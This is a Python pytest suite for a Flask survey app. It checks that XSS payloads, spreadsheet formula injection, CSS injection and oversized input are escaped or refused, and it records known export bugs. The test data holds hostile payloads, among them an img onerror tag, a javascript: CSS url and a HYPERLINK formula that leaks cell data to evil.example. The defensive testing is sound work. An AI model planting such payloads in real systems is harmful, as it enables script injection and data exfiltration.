"""Hostile input end to end: what respondents (and anyone whose text reaches an evaluator)
type comes back as inert text on every page and as plain text in every spreadsheet;
forged links, other surveys' ids and forged requests get a refusal and change nothing;
every page carries the security headers and no error shows a stack trace.

Respondent text describes children in contact with social services and is read by
evaluators who are signed in: stored XSS is the threat these tests are about. The corpus
is in tests/hostile.py; a page passes when it holds none of the markup the payloads try
to inject (tests.hostile.injected_markup) and shows each payload as escaped text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import secrets
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_from_bytes, urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from lxml import html as lxml_html
from markupsafe import escape
from werkzeug.security import generate_password_hash
from werkzeug.test import TestResponse

from survey import codebook_editor as edit
from survey import coding_actions
from survey.db import Store, now
from survey.questionnaire import loads

from .conftest import SurveyRunner, form_tokens, invite, new_survey, post_form
from .hostile import (
    ANSWERS,
    CSV,
    FORMULA_START,
    ONE_MEGABYTE,
    SENTINEL,
    UNICODE,
    XSS,
    cleaned,
    injected_markup,
    same_words,
    visible_text,
)
from .test_admin_web import PASSWORD

JSON = {"Accept": "application/json"}
ADMIN = "forvaltare@example.org"  # not the team fixture's admin, whose password is unusable

QUESTIONNAIRE = """
id = "hostil"
languages = ["sv", "en"]
title = { sv = "Samverkan kring barnet", en = "Collaboration around the child" }

[[pages]]
id = "svar"
title = { sv = "Dina svar", en = "Your answers" }

  [[pages.questions]]
  id = "fritext"
  type = "text"
  text = { sv = "Vilken är din roll?", en = "What is your role?" }

  [[pages.questions]]
  id = "beskrivning"
  type = "textarea"
  text = { sv = "Beskriv samverkan kring barnet.", en = "Describe the collaboration." }

  [[pages.questions]]
  id = "val"
  type = "single"
  text = { sv = "Fick barnet stöd?", en = "Did the child get support?" }
  choices = [
    { value = "ja", label = { sv = "Ja", en = "Yes" } },
    { value = "nej", label = { sv = "Nej", en = "No" } },
  ]

  [[pages.questions]]
  id = "flera"
  type = "multi"
  text = { sv = "Var fick barnet stöd?", en = "Where did the child get support?" }
  choices = [
    { value = "skolan", label = { sv = "I skolan", en = "At school" } },
    { value = "hemma", label = { sv = "Hemma", en = "At home" } },
  ]

[[pages]]
id = "mer"
title = { sv = "Något mer", en = "Anything else" }

  [[pages.questions]]
  id = "mer"
  type = "textarea"
  max_length = 2000
  text = { sv = "Vill du lägga till något?", en = "Anything to add?" }
"""

TEXT_QUESTIONS = ("fritext", "beskrivning")
KEYWORD = "samverkan"  # ends every description, so the engine suggests a code for each


# --- helpers ---------------------------------------------------------------------------


def staff(app: Flask, db: Store, email: str, role: str, *surveys: int) -> FlaskClient:
    """A signed-in browser of a staff member assigned to `surveys`."""
    if db.user_by_email(email) is None:
        db.create_user(email, generate_password_hash(PASSWORD), role)
    user = db.user_by_email(email)
    for survey_id in surveys:
        db.assign(user["id"], survey_id)
    client = app.test_client()
    reply = post_form(client, "/login", {"email": email, "password": PASSWORD})
    assert reply.status_code == 302, reply.status_code
    return client


def token(client: FlaskClient) -> str:
    """The signed-in session's CSRF token (one per session, good for every form)."""
    return form_tokens(client, "/account/password")["csrf_token"]


def page_of(reply: TestResponse) -> str:
    return reply.get_data(as_text=True)


def assert_inert(html: str, where: str) -> None:
    found = injected_markup(html)
    assert not found, f"{where}: injected markup {found[:5]}"


def assert_escaped(html: str, texts: Iterable[str], where: str) -> None:
    """No injected markup, and each text present in its escaped form."""
    assert_inert(html, where)
    for text in texts:
        assert str(escape(text)) in html, f"{where}: {text[:60]!r} not shown escaped"


def db_snapshot(db: Store) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table (login bookkeeping aside), to prove nothing changed."""
    skip = {"login_failures"}
    return {
        name: [tuple(row) for row in db.db.execute(f"SELECT * FROM [{name}] ORDER BY rowid")]
        for name in db.db.table_names()
        if name not in skip and not name.startswith("answers_fts")
    }


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _strings(key)
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def all_text_values(db: Store) -> Iterator[tuple[str, str, str]]:
    """(table, column, value) of every stored text, and of every text inside stored JSON
    (attributes, details), where an escaped "\\u0000" is a NUL byte all the same."""
    for name in db.db.table_names():
        if name.startswith("answers_fts"):
            continue
        cursor = db.db.execute(f"SELECT * FROM [{name}]")
        columns = [c[0] for c in cursor.description]
        for row in cursor:
            for column, value in zip(columns, row, strict=True):
                if not isinstance(value, str):
                    continue
                yield name, column, value
                if value.startswith(("{", "[")):
                    try:
                        decoded = json.loads(value)
                    except ValueError:
                        continue
                    for text in _strings(decoded):
                        yield name, column, text


def latest_response_id(db: Store, survey_id: int) -> int:
    rows = db.db.execute(
        "SELECT id FROM responses WHERE survey_id = ? ORDER BY id DESC LIMIT 1", (survey_id,)
    )
    return int(rows.fetchone()[0])


def hostile_questionnaire_survey(db: Store, slug: str = "hostil", **fields: Any) -> dict:
    db.import_questionnaire(loads(QUESTIONNAIRE), QUESTIONNAIRE)
    return new_survey(db, "hostil", slug, **fields)


@dataclass
class Corpus:
    """The hostile survey after every payload was answered through the respondent pages."""

    survey: dict
    responses: dict[str, int] = field(default_factory=dict)  # payload name → response id
    answers: dict[str, dict[str, int]] = field(default_factory=dict)  # name → qid → answer
    stored: dict[int, str] = field(default_factory=dict)  # answer id → stored text

    @property
    def id(self) -> int:
        return int(self.survey["id"])

    def texts(self, qid: str) -> list[str]:
        """The stored answers to one question, a payload each."""
        return [self.stored[ids[qid]] for ids in self.answers.values()]


def answer_everything(app: Flask, db: Store, survey: dict, payloads: dict[str, str]) -> Corpus:
    """One respondent per payload, typed into the text and the textarea question, sent."""
    corpus = Corpus(survey)
    for name, payload in payloads.items():
        respondent = app.test_client()
        slug = survey["slug"]
        answers = {"fritext": payload, "beskrivning": f"{payload} {KEYWORD}"}
        reply = post_form(respondent, f"/s/{slug}/1", {**answers, "val": "ja", "flera": "skolan"})
        assert reply.status_code == 302, (name, reply.status_code)
        post_form(respondent, f"/s/{slug}/2", {"mer": ""})
        done = post_form(respondent, f"/s/{slug}/review", {})
        assert done.headers["Location"].endswith("/done"), name
        corpus.responses[name] = latest_response_id(db, survey["id"])
    for row in db.open_answers(survey["id"]):
        name = next(n for n, r in corpus.responses.items() if r == row["response_id"])
        corpus.answers.setdefault(name, {})[row["question"]] = row["id"]
        corpus.stored[row["id"]] = row["text"]
    return corpus


@pytest.fixture
def corpus(app: Flask, db: Store) -> Corpus:
    return answer_everything(app, db, hostile_questionnaire_survey(db), ANSWERS)


# --- respondents -----------------------------------------------------------------------


def test_hostile_answers_are_stored_as_typed_and_shown_back_escaped(app: Flask, db: Store) -> None:
    survey = hostile_questionnaire_survey(db)
    for name, payload in ANSWERS.items():
        respondent = app.test_client()
        typed = {"fritext": payload, "beskrivning": payload}
        reply = post_form(respondent, "/s/hostil/1", {**typed, "val": "nej", "flera": "hemma"})
        assert reply.status_code == 302, name
        stored = db.answers(latest_response_id(db, survey["id"]))
        assert stored["fritext"] == stored["beskrivning"] == cleaned(payload), name
        # Back on the page: the text is the value of an <input> and inside a <textarea>.
        again = page_of(respondent.get("/s/hostil/1"))
        assert_escaped(again, [cleaned(payload)], f"page 1 again ({name})")
        assert again.count(str(escape(cleaned(payload)))) == 2, name
        fits = len(payload) <= 2000  # the last question takes at most 2000 characters
        post_form(respondent, "/s/hostil/2", {"mer": payload if fits else ""})
        review = page_of(respondent.get("/s/hostil/review"))
        assert_escaped(review, [cleaned(payload)], f"review ({name})")
        assert review.count(str(escape(cleaned(payload)))) == (3 if fits else 2), name


def test_right_to_left_zero_width_emoji_and_long_words_are_kept_exactly(
    app: Flask, db: Store
) -> None:
    survey = hostile_questionnaire_survey(db)
    for name, payload in UNICODE.items():
        respondent = app.test_client()
        post_form(respondent, "/s/hostil/1", {"fritext": payload, "beskrivning": payload})
        assert db.answers(latest_response_id(db, survey["id"]))["fritext"] == payload, name
        assert payload in visible_text(page_of(respondent.get("/s/hostil/1"))), name


@pytest.mark.parametrize("question", ["val", "flera"])
def test_a_choice_that_is_not_an_option_is_refused_in_swedish(
    app: Flask, db: Store, question: str
) -> None:
    survey = hostile_questionnaire_survey(db)
    for name, payload in {**XSS, **CSV}.items():
        respondent = app.test_client()
        reply = post_form(respondent, "/s/hostil/1", {"fritext": "Kurator", question: payload})
        html = page_of(reply)
        assert reply.status_code == 200, name
        assert "Välj ett av alternativen." in html, name
        assert_inert(html, f"choice {question} ({name})")
        assert "Kurator" in html, "what was typed is kept"
    assert db.count_responses(survey["id"]) == 0, "nothing stored from a refused page"


# --- what evaluators see ---------------------------------------------------------------


@dataclass
class Coded:
    """The corpus coded through the workbench by an evaluator: a code per payload (its
    label and description the payload), the text answer coded whole and the payload part
    of the description as a span, a memo on each answer, coding and code, and the engine's
    suggestion of a keyword code on every description."""

    corpus: Corpus
    evaluator: FlaskClient
    csrf: str
    codes: dict[str, int] = field(default_factory=dict)  # payload name → code id
    codings: dict[str, int] = field(default_factory=dict)  # payload name → span coding id
    cell_json: list[str] = field(default_factory=list)  # `html` of every coding reply


def _label(payload: str) -> str:
    """The code label made from a payload (labels are at most 120 characters)."""
    return payload[: edit.MAX_LABEL].strip()


def code_everything(app: Flask, db: Store, corpus: Corpus) -> Coded:
    from survey.suggest import code_survey
    from survey.training import CODEBOOK_LANGUAGE

    sid = corpus.id
    evaluator = staff(app, db, "eva@example.org", "evaluator", sid)
    coded = Coded(corpus, evaluator, token(evaluator))
    base = f"/coding/surveys/{sid}"
    for name, payload in ANSWERS.items():
        added = evaluator.post(
            f"{base}/codebook/codes",
            data={
                "csrf_token": coded.csrf,
                "label": payload[: edit.MAX_LABEL],
                "description": payload[: edit.MAX_DESCRIPTION],
            },
        )
        assert added.status_code == 302, (name, added.status_code)
        coded.codes[name] = int(added.headers["Location"].rsplit("/", 1)[1])
        ids = corpus.answers[name]
        whole = evaluator.post(
            f"{base}/answers/{ids['fritext']}/codings",
            data={"csrf_token": coded.csrf, "code_id": coded.codes[name]},
            headers=JSON,
        )
        quote = cleaned(payload)
        span = evaluator.post(
            f"{base}/answers/{ids['beskrivning']}/codings",
            data={
                "csrf_token": coded.csrf,
                "code_id": coded.codes[name],
                "start": 0,
                "end": len(quote),
                "quote": quote,
            },
            headers=JSON,
        )
        for reply in (whole, span):
            assert reply.status_code == 200 and reply.json["ok"], (name, reply.json)
            coded.cell_json.append(reply.json["html"])
        chip = next(c for c in db.visible_codings([ids["beskrivning"]], 0) if c["start"] == 0)
        coded.codings[name] = chip["id"]
        for target, target_id in (
            ("answer", ids["fritext"]),
            ("coding", coded.codings[name]),
            ("code", coded.codes[name]),
        ):
            memo = evaluator.post(
                f"{base}/memos",
                data={
                    "csrf_token": coded.csrf,
                    "target": target,
                    "target_id": target_id,
                    "body": payload,
                },
            )
            assert memo.status_code == 302, (name, target, memo.status_code)
    edit.add_code(db, sid, None, "Samverkan", keywords={"sv": [KEYWORD]})
    survey = db.survey_by_id(sid)
    code_survey(db, sid, edit.to_codebook(db, survey, CODEBOOK_LANGUAGE))
    return coded


@pytest.fixture
def coded(app: Flask, db: Store, corpus: Corpus) -> Coded:
    return code_everything(app, db, corpus)


def _pages(client: FlaskClient, url: str) -> list[str]:
    """Every page of a paged workbench view, following its "next page" links."""
    path = url.split("?", 1)[0]
    pages = [page_of(client.get(url))]
    while found := re.search(r'<a href="(\?[^"]*)" rel="next">', pages[-1]):
        pages.append(page_of(client.get(path + found.group(1).replace("&amp;", "&"))))
        assert len(pages) < 20, "the pager ends"
    return pages


def test_hostile_answers_are_escaped_in_the_response_browser_and_whole_responses(
    coded: Coded,
) -> None:
    corpus, client = coded.corpus, coded.evaluator
    texts = corpus.texts("fritext") + corpus.texts("beskrivning")
    browse = page_of(client.get(f"/responses/surveys/{corpus.id}"))
    assert_escaped(browse, texts, "response browser")
    searched = page_of(client.get(f"/responses/surveys/{corpus.id}?q=script"))
    assert_escaped(searched, [corpus.stored[corpus.answers["script"]["fritext"]]], "search")
    for name, response_id in corpus.responses.items():
        whole = page_of(client.get(f"/responses/{response_id}"))
        ids = corpus.answers[name]
        assert_escaped(whole, [corpus.stored[i] for i in ids.values()], f"response ({name})")


def test_hostile_answers_are_escaped_in_the_workbench_grid_question_view_and_cell_json(
    coded: Coded,
) -> None:
    corpus, client = coded.corpus, coded.evaluator
    url = f"/coding/surveys/{corpus.id}"
    grid = _pages(client, url)
    for number, html in enumerate(grid, start=1):
        assert_inert(html, f"grid page {number}")
    assert_escaped("".join(grid), corpus.texts("fritext"), "grid")
    # A description shows its coded span (the payload) highlighted: cut at the span.
    quotes = [cleaned(p) for p in ANSWERS.values()]
    assert_escaped("".join(grid), quotes, "coded spans and their quotes in the grid")
    for qid, texts in (("fritext", corpus.texts("fritext")), ("beskrivning", quotes)):
        view = _pages(client, f"{url}?question={qid}")
        for number, html in enumerate(view, start=1):
            assert_inert(html, f"question view {qid} page {number}")
        assert_escaped("".join(view), texts, f"question view {qid}")
    labels = [_label(p) for p in ANSWERS.values()]
    assert_escaped("".join(grid), labels, "code labels in the grid")
    for html in coded.cell_json:
        assert_inert(f"<!doctype html><body>{html}</body>", "cell json")
    assert_escaped("".join(coded.cell_json), corpus.texts("fritext"), "cell json")
    found = page_of(client.get(f"{url}?question=fritext&q=onerror"))
    assert_escaped(found, [corpus.stored[corpus.answers["img_onerror"]["fritext"]]], "search")


def test_hostile_answers_are_escaped_in_the_queue_memo_and_code_pages(coded: Coded) -> None:
    corpus, client = coded.corpus, coded.evaluator
    base = f"/coding/surveys/{corpus.id}"
    queue, skipped = [], []
    while True:
        html = page_of(client.get(f"{base}/queue?" + "&".join(f"skip={s}" for s in skipped)))
        assert_inert(html, "queue")
        shown = re.findall(r'data-suggestion="(\d+)"', html)
        if not shown:
            break
        queue.append(html)
        skipped += shown
    assert len(skipped) >= len(ANSWERS), "every description has a suggestion"
    # The matched keyword is highlighted, so the text before it is the payload.
    assert_escaped("".join(queue), [cleaned(p) for p in ANSWERS.values()], "queue")
    for name, payload in ANSWERS.items():
        ids = corpus.answers[name]
        text = corpus.stored[ids["fritext"]]
        memo = page_of(client.get(f"{base}/memos?target=answer&target_id={ids['fritext']}"))
        assert_escaped(memo, [text, cleaned(payload)], f"memos on answer ({name})")
        memo = page_of(client.get(f"{base}/memos?target=coding&target_id={coded.codings[name]}"))
        assert_escaped(memo, [cleaned(payload)], f"memos on coding ({name})")
        code = page_of(client.get(f"{base}/codebook/codes/{coded.codes[name]}"))
        quotes = [text] if len(text) <= 300 else []  # the page shortens long quotes
        assert_escaped(code, [*quotes, _label(payload)], f"code page ({name})")
    everything = page_of(client.get(f"{base}/memos?all=1"))
    assert_escaped(everything, [cleaned(p) for p in ANSWERS.values()], "all memos")


@pytest.mark.filterwarnings("ignore:Glyph")  # emoji outside the figures' font
def test_hostile_answers_and_labels_are_plain_text_on_the_report_page(coded: Coded) -> None:
    corpus, client = coded.corpus, coded.evaluator
    reply = client.get(f"/reports/surveys/{corpus.id}/sv/")
    assert reply.status_code == 200
    html = page_of(reply)
    assert_inert(html, "report page")
    shown = visible_text(html)
    for name, payload in ANSWERS.items():
        quote = same_words(cleaned(payload))[:500]
        assert quote in shown, f"report quote ({name}) not shown as text: {quote[:60]!r}"
        assert same_words(_label(payload)) in shown, f"report label ({name})"


def test_hostile_code_labels_descriptions_memos_and_sample_names_are_escaped(
    app: Flask, db: Store, coded: Coded
) -> None:
    corpus, client = coded.corpus, coded.evaluator
    base = f"/coding/surveys/{corpus.id}"
    admin = staff(app, db, ADMIN, "admin")
    evaluator = db.user_by_email("eva@example.org")
    for name in ("script", "attribute_double_quote"):
        drawn = admin.post(
            f"{base}/agreement/samples",
            data={
                "csrf_token": token(admin),
                "percent": 20,
                "coder": [evaluator["id"], db.user_by_email(ADMIN)["id"]],
                "name": XSS[name],
            },
        )
        assert drawn.status_code == 302, name
    merged = client.post(
        f"{base}/codebook/merge",
        data={
            "csrf_token": coded.csrf,
            "source": coded.codes["script"],
            "target": coded.codes["img_onerror"],
        },
    )
    assert merged.status_code == 302
    labels = [_label(p) for p in ANSWERS.values()]
    codebook = page_of(client.get(f"{base}/codebook"))
    descriptions = [p.strip() for p in ANSWERS.values() if len(p.strip()) <= 120]  # not cut
    assert_escaped(codebook, labels + descriptions, "codebook page")
    assert "Inte bekräftat än." in codebook, "the pending merge names both codes"
    for name, code_id in coded.codes.items():
        page = page_of(client.get(f"{base}/codebook/codes/{code_id}"))
        description = ANSWERS[name][: edit.MAX_DESCRIPTION].strip()
        assert_escaped(page, [_label(ANSWERS[name]), description], f"code page ({name})")
        memos = page_of(client.get(f"{base}/memos?target=code&target_id={code_id}"))
        assert_escaped(memos, [_label(ANSWERS[name]), cleaned(ANSWERS[name])], f"memos ({name})")
    samples = [XSS["script"], XSS["attribute_double_quote"]]
    workbench = page_of(client.get(base))
    assert_escaped(workbench, labels + samples, "workbench palette, filters and samples")
    agreement = page_of(admin.get(f"{base}/agreement"))
    assert_escaped(agreement, samples, "agreement page")
    queue = page_of(client.get(f"{base}/queue"))
    assert_inert(queue, "queue")


def test_a_colour_that_is_not_a_colour_never_reaches_the_stylesheet(
    app: Flask, db: Store, team: dict
) -> None:
    sid = team["survey"]["id"]
    client = staff(app, db, "eva@example.org", "evaluator", sid)
    code = db.code_by_key(sid, "kartlaggning")
    hostile = "#fff; } body { background: url(javascript:alert(1)) } .x {"
    for url in (
        f"/coding/surveys/{sid}/codebook/codes",
        f"/coding/surveys/{sid}/codebook/codes/{code['id']}",
    ):
        reply = client.post(
            url,
            data={"csrf_token": token(client), "label": "Färg", "color": hostile},
            follow_redirects=True,
        )
        assert "Färgen ska skrivas som #rrggbb" in page_of(reply), url
    assert db.code(code["id"])["color"] != hostile
    assert all(c["color"] != hostile for c in db.codes(sid, inactive=True))
    css = page_of(client.get(f"/coding/surveys/{sid}/codes.css"))
    assert "javascript" not in css and "background" not in css
    assert all(
        re.fullmatch(r"\.code-\d+ \{ --code: #[0-9a-fA-F]{6}; \}", line)
        for line in css.split("\n")
        if line
    )


# --- respondent attributes -------------------------------------------------------------

ATTRIBUTE_COLUMN = "<img src=x onerror=window.__pwned=1>"
SCHOOL = XSS["svg_onload"]  # the same for everyone, so the report names the group


def _people_csv(payloads: dict[str, str]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(["namn", "e-post", "skola", "stadsdel", ATTRIBUTE_COLUMN])
    for n, (name, payload) in enumerate(payloads.items()):
        writer.writerow([f"Person {n}", f"person{n}@example.org", SCHOOL, payload, name])
    return buffer.getvalue().encode("utf-8")


def _invite_by_web(app: Flask, db: Store, survey: dict, content: bytes) -> list[str]:
    admin = staff(app, db, ADMIN, "admin")
    tokens = form_tokens(admin, f"/admin/surveys/{survey['id']}")
    preview = admin.post(
        f"/admin/surveys/{survey['id']}/invitations",
        data={**tokens, "people": (io.BytesIO(content), "personer.csv")},
        content_type="multipart/form-data",
    )
    html = page_of(preview)
    shown = list(ANSWERS.values())[:20]  # the preview shows the first 20 people
    assert_escaped(html, [cleaned(p) for p in shown] + [ATTRIBUTE_COLUMN], "invitation preview")
    hidden = re.search(r'name="content" value="([^"]+)"', html).group(1)
    created = admin.post(
        f"/admin/surveys/{survey['id']}/invitations", data={**tokens, "content": hidden}
    )
    return _links(created.get_data(as_text=True))


def _invite_by_cli(runner: SurveyRunner, tmp_path: Path, survey: dict, content: bytes) -> list[str]:
    people, out = tmp_path / "personer.csv", tmp_path / "lankar.csv"
    people.write_bytes(content)
    result = runner("invite", survey["slug"], "--csv", str(people), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "<script" not in result.output
    return _links(out.read_text(encoding="utf-8-sig"))


def _links(text: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:  # the links file opens in Excel: no cell may start a formula
        assert not any(v.startswith(FORMULA_START) for v in row.values()), row
    return [urlsplit(row["link"]).path for row in rows]


@pytest.mark.parametrize("route", ["web upload", "survey invite --csv"])
def test_hostile_respondent_attributes_are_escaped_wherever_they_are_shown(
    app: Flask, db: Store, runner: SurveyRunner, tmp_path: Path, route: str
) -> None:
    survey = hostile_questionnaire_survey(db, "personlig", anonymous=False, attributes=["skola"])
    content = _people_csv(ANSWERS)
    if route == "web upload":
        links = _invite_by_web(app, db, survey, content)
    else:
        links = _invite_by_cli(runner, tmp_path, survey, content)
    assert len(links) == len(ANSWERS)
    for link in links:
        respondent = app.test_client()
        assert post_form(respondent, f"{link}/1", {"fritext": "Kurator"}).status_code == 302
    sid = survey["id"]
    values = [cleaned(p) for p in ANSWERS.values()] + [SCHOOL, ATTRIBUTE_COLUMN]
    admin = staff(app, db, ADMIN, "admin")
    assert_escaped(page_of(admin.get(f"/admin/surveys/{sid}")), values, "monitoring")
    evaluator = staff(app, db, "eva@example.org", "evaluator", sid)
    assert_escaped(page_of(evaluator.get(f"/responses/surveys/{sid}")), values, "browser")
    for response_id in (
        r["id"] for r in db.db.query("SELECT id FROM responses WHERE survey_id = ?", (sid,))
    ):
        assert_inert(page_of(evaluator.get(f"/responses/{response_id}")), "whole response")
    grid = _pages(evaluator, f"/coding/surveys/{sid}")
    assert_escaped("".join(grid), values, "workbench rows and attribute filters")
    filtered = evaluator.get(
        f"/coding/surveys/{sid}", query_string={"attr_stadsdel": XSS["script"]}
    )
    assert_escaped(page_of(filtered), [XSS["script"]], "workbench filtered by a hostile value")
    for fmt in ("csv", "xlsx"):
        rows = spreadsheet(admin.get(f"/admin/surveys/{sid}/export.{fmt}"), fmt)
        assert formula_cells(rows) == [], f"attribute values in the {fmt} export"
    code = edit.add_code(db, sid, None, "Roll")
    user = db.user_by_email("eva@example.org")["id"]
    for answer in db.open_answers(sid):
        coding_actions.add_coding(db, sid, user, answer["id"], code)
    report = page_of(evaluator.get(f"/reports/surveys/{sid}/sv/"))
    assert_inert(report, "report page")
    assert same_words(SCHOOL) in visible_text(report), "the group is named as text"


# --- spreadsheets ----------------------------------------------------------------------


def spreadsheet(reply: TestResponse, fmt: str) -> list[list[Any]]:
    """The rows of a downloaded CSV or XLSX, header first."""
    assert reply.status_code == 200, reply.status_code
    if fmt == "csv":
        text = reply.get_data(as_text=True).lstrip("\ufeff")
        return [list(row) for row in csv.reader(io.StringIO(text))]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(reply.get_data())).active
    rows = []
    for row in sheet.iter_rows():
        assert not any(c.data_type == "f" for c in row), [c.value for c in row]
        rows.append([c.value for c in row])
    return rows


def formula_cells(rows: list[list[Any]]) -> list[str]:
    return [v for row in rows for v in row if isinstance(v, str) and v.startswith(FORMULA_START)]


def test_exports_of_responses_codings_and_memos_neutralise_formula_starts(
    app: Flask, db: Store, coded: Coded
) -> None:
    sid = coded.corpus.id
    admin = staff(app, db, ADMIN, "admin")
    downloads = {
        "responses": (admin, f"/admin/surveys/{sid}/export"),
        "codings": (coded.evaluator, f"/coding/surveys/{sid}/export/codings"),
        "memos": (coded.evaluator, f"/coding/surveys/{sid}/export/memos"),
    }
    formulas = {cleaned(p) for p in CSV.values()}
    for what, (client, url) in downloads.items():
        for fmt in ("csv", "xlsx"):
            rows = spreadsheet(client.get(f"{url}.{fmt}"), fmt)
            assert len(rows) > len(ANSWERS), (what, fmt)
            assert formula_cells(rows) == [], (what, fmt, formula_cells(rows)[:5])
            cells = {v for row in rows[1:] for v in row if isinstance(v, str)}
            missing = {f for f in formulas if "'" + f not in cells}
            assert not missing, f"{what}.{fmt}: not kept as text: {missing}"
            # Markup is data here: kept as typed (an apostrophe before a leading "-").
            kept = {m for m in (cleaned(p) for p in XSS.values()) if m in cells or "'" + m in cells}
            assert len(kept) == len(XSS), f"{what}.{fmt}: markup is kept as typed"


@pytest.mark.xfail(
    strict=True,
    reason="BUG: column names are written unneutralised: an invitation file's attribute "
    "column '=HYPERLINK(…)' becomes a header cell that runs as a formula in the links file, "
    "the response export (CSV and XLSX) and the codings export (safe_cell is applied to "
    "data rows only: survey/exports.py write_csv/write_xlsx, invitations.write_links_to)",
)
def test_a_formula_in_an_attribute_column_name_is_neutralised_in_every_export(
    app: Flask, db: Store
) -> None:
    survey = hostile_questionnaire_survey(db, "personlig", anonymous=False)
    column = '=HYPERLINK("https://evil.example/?d="&A2,"Klicka")'
    content = f'namn;e-post;"{column.replace(chr(34), chr(34) * 2)}"\nÅsa;asa@example.org;Järva\n'
    admin = staff(app, db, ADMIN, "admin")
    tokens = form_tokens(admin, f"/admin/surveys/{survey['id']}")
    url = f"/admin/surveys/{survey['id']}/invitations"
    preview = page_of(
        admin.post(
            url,
            data={**tokens, "people": (io.BytesIO(content.encode()), "p.csv")},
            content_type="multipart/form-data",
        )
    )
    hidden = re.search(r'name="content" value="([^"]+)"', preview).group(1)
    links = admin.post(url, data={**tokens, "content": hidden})
    row = next(csv.DictReader(io.StringIO(page_of(links).lstrip("\ufeff"))))
    post_form(app.test_client(), f"{urlsplit(row['link']).path}/1", {"fritext": "Kurator"})
    evaluator = staff(app, db, "eva@example.org", "evaluator", survey["id"])
    code = edit.add_code(db, survey["id"], None, "Roll")
    answer = db.open_answers(survey["id"])[0]["id"]
    coding_actions.add_coding(
        db, survey["id"], db.user_by_email("eva@example.org")["id"], answer, code
    )
    found = {
        "links.csv": formula_cells(spreadsheet(links, "csv")),
        "responses.csv": formula_cells(
            spreadsheet(admin.get(f"/admin/surveys/{survey['id']}/export.csv"), "csv")
        ),
        "codings.csv": formula_cells(
            spreadsheet(evaluator.get(f"/coding/surveys/{survey['id']}/export/codings.csv"), "csv")
        ),
    }
    assert found == {"links.csv": [], "responses.csv": [], "codings.csv": []}, found
    for url in (
        f"/admin/surveys/{survey['id']}/export.xlsx",
        f"/coding/surveys/{survey['id']}/export/codings.xlsx",
    ):
        client = admin if url.startswith("/admin") else evaluator
        spreadsheet(client.get(url), "xlsx")  # asserts that no cell is a formula


def _upload_people(admin: FlaskClient, survey_id: int, content: bytes) -> TestResponse:
    """Upload an invitation file and confirm it, as the admin page does."""
    url = f"/admin/surveys/{survey_id}/invitations"
    tokens = form_tokens(admin, f"/admin/surveys/{survey_id}")
    preview = admin.post(
        url,
        data={**tokens, "people": (io.BytesIO(content), "personer.csv")},
        content_type="multipart/form-data",
    )
    hidden = re.search(r'name="content" value="([^"]+)"', page_of(preview))
    assert hidden, "the preview accepts the file"
    return admin.post(url, data={**tokens, "content": hidden.group(1)})


@pytest.mark.xfail(
    strict=True,
    reason="BUG: control characters typed by staff (memo bodies, code labels) or read from an "
    "invitation file (attribute values) are stored as they are, and every XLSX export that "
    "meets one fails with a 500 (openpyxl IllegalCharacterError in exports.write_xlsx)",
)
def test_xlsx_exports_download_when_staff_text_holds_control_characters(
    app: Flask, db: Store, team: dict
) -> None:
    sid = team["survey"]["id"]
    evaluator = staff(app, db, "eva@example.org", "evaluator", sid)
    csrf = token(evaluator)
    memo = evaluator.post(
        f"/coding/surveys/{sid}/memos",
        data={"csrf_token": csrf, "target": "survey", "target_id": sid, "body": "Ring\x07 hem\x1b"},
    )
    assert memo.status_code == 302
    added = evaluator.post(
        f"/coding/surveys/{sid}/codebook/codes", data={"csrf_token": csrf, "label": "Skola\x07"}
    )
    code_id = int(added.headers["Location"].rsplit("/", 1)[1])
    answer = team["answers"][0]["id"]
    evaluator.post(
        f"/coding/surveys/{sid}/answers/{answer}/codings",
        data={"csrf_token": csrf, "code_id": code_id},
        headers=JSON,
    )
    survey = hostile_questionnaire_survey(db, "personlig", anonymous=False)
    admin = staff(app, db, ADMIN, "admin")
    links = _upload_people(
        admin, survey["id"], "namn;e-post;stadsdel\nÅsa;asa@example.org;J\x07rva\n".encode()
    )
    post_form(app.test_client(), f"{_links(page_of(links))[0]}/1", {"fritext": "x"})
    statuses = {
        "memos.xlsx": evaluator.get(f"/coding/surveys/{sid}/export/memos.xlsx").status_code,
        "codings.xlsx": evaluator.get(f"/coding/surveys/{sid}/export/codings.xlsx").status_code,
        "responses.xlsx": admin.get(f"/admin/surveys/{survey['id']}/export.xlsx").status_code,
    }
    assert statuses == {"memos.xlsx": 200, "codings.xlsx": 200, "responses.xlsx": 200}


# --- size, encoding, null bytes --------------------------------------------------------


def test_a_one_megabyte_answer_is_refused_by_its_length_and_earlier_answers_stay(
    app: Flask, client: FlaskClient, db: Store
) -> None:
    survey = hostile_questionnaire_survey(db)
    post_form(client, "/s/hostil/1", {"fritext": "Kurator", "beskrivning": "Tät samverkan."})
    response_id = latest_response_id(db, survey["id"])
    reply = post_form(client, "/s/hostil/2", {"mer": ONE_MEGABYTE})
    html = page_of(reply)
    assert reply.status_code == 200
    assert "Svaret är för långt. Skriv högst 2000 tecken." in html
    assert db.answers(response_id) == {"fritext": "Kurator", "beskrivning": "Tät samverkan."}
    first = post_form(
        app.test_client(), "/s/hostil/1", {"fritext": "Rektor", "beskrivning": ONE_MEGABYTE}
    )
    assert first.status_code == 200
    assert "Svaret är för långt. Skriv högst 10000 tecken." in page_of(first)
    assert "Rektor" in page_of(first), "what was typed in the other field is kept"
    assert db.count_responses(survey["id"]) == 1, "nothing stored from the refused page"


def test_an_answer_over_the_request_limit_gets_the_413_page_and_earlier_answers_stay(
    client: FlaskClient, db: Store
) -> None:
    survey = hostile_questionnaire_survey(db)
    post_form(client, "/s/hostil/1", {"fritext": "Kurator", "beskrivning": "Tät samverkan."})
    response_id = latest_response_id(db, survey["id"])
    # A megabyte of Swedish letters is three on the wire (%C3%A5), over the 2 MB limit.
    reply = post_form(client, "/s/hostil/2", {"mer": "å" * len(ONE_MEGABYTE)})
    assert reply.status_code == 413
